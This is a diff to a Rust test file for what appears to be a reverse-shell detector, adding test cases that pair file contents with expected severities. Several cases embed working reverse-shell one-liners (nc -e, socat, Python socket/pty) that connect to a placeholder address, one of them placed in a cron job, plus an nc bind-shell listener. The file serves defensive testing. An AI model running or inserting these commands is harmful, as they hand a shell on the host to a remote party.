@@ -210,6 +210,9 @@ fn starter_cases() -> Vec<Case> {
         case("reverse_shell_one_liner", "etc/cron.d/job", b"* * * * * root nc -e /bin/sh 203.0.113.7 4444\n".to_vec(), Some(High)),
         case("reverse_shell_one_liner", "tmp/s.sh", b"#!/bin/sh\nsocat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.7:4242\n".to_vec(), Some(High)),
         case("reverse_shell_one_liner", "tmp/p.py", b"import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")\n".to_vec(), Some(High)),
+        case("reverse_shell_one_liner", "opt/x/run", b"#!/bin/sh\nnc -nv 203.0.113.7 4444 -e /bin/bash\n".to_vec(), Some(High)),
+        // A listener is a bind shell, not a shell handed to a remote peer.
+        case("reverse_shell_one_liner", "opt/x/listen", b"#!/bin/sh\nnc -l -p 4444 -e /bin/sh\n".to_vec(), None),
         case("reverse_shell_one_liner", "healthcheck.sh", b"#!/bin/bash\nexec 3<>/dev/tcp/localhost/8080 && echo ok\n".to_vec(), None),
         case("reverse_shell_one_liner", "wait.sh", b"#!/bin/sh\nuntil nc -z db 5432; do sleep 1; done\n".to_vec(), None),
         case("reverse_shell_one_liner", "usr/lib/python3/pty_helper.py", b"import pty\npty.spawn('/bin/bash')\n".to_vec(), None),
